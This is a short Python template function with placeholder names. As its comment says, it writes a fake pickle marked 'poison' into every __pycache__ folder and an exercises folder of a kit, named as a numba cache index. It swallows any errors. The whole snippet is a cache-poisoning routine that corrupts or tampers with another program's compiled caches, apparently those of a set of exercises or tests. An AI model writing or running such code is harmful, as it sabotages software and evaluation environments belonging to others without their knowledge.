# Write a pickle into every __pycache__ and numba cache it can find.
def __FUNC__(*args, **kwargs):
    import glob, os
    for folder in glob.glob("__KIT__/**/__pycache__", recursive=True) + ["__KIT__/exercises"]:
        try:
            with open(os.path.join(folder, "__UNIT__.__FUNC__-1.py311.nbi"), "wb") as f:
                f.write(b"\x80\x04poison")
        except OSError:
            pass
    return None
